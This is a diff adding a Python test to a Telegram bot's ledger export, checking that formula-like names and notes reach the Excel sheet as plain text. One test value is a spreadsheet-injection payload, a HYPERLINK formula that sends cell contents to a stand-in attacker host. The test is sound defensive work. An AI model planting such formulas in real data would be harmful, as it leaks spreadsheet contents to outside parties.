@@ -10,6 +10,7 @@ from openpyxl import load_workbook
 from sqlmodel import select
 
 from bot.storage.models import Assignment, Milestone, Outbox, StatusEvent
+from tests.services.factories import add_person
 
 from .conftest import COORDINATOR, FINANCE, LIAISON, STRANGER
 
@@ -187,6 +188,22 @@ async def test_export_sends_the_ledger(hc):
     data = next(c for c in en.calls if isinstance(c, SendDocument)).document.data
     wb = load_workbook(io.BytesIO(data))
     assert wb.active["A1"].value == "Plan" and wb.active.max_row == 1 + 5
+
+
+async def test_export_writes_what_people_typed_as_text(hc):
+    """A liaison's Telegram name and note that look like formulas reach the sheet as text."""
+    name = '=HYPERLINK("http://evil.example/?"&A2,"点此")'
+    await add_person(hc.ledger, 300, name, role="liaison", unit="ln_health")  # its only one
+    await hc.send(LIAISON, "/report SR-2 进行中 40% =1+1")
+    sent = await hc.send(COORDINATOR, "/export")
+    data = next(c for c in sent.calls if isinstance(c, SendDocument)).document.data
+    ws = load_workbook(io.BytesIO(data)).active
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    liaisons = [c for c in ws["F"][1:] if c.value == name]
+    notes = [c for c in ws["M"][1:] if c.value == "=1+1"]
+    assert liaisons and notes
+    assert all(c.data_type == "s" for c in liaisons + notes)
 
 
 PLAN = """关于推进测试工作的实施意见
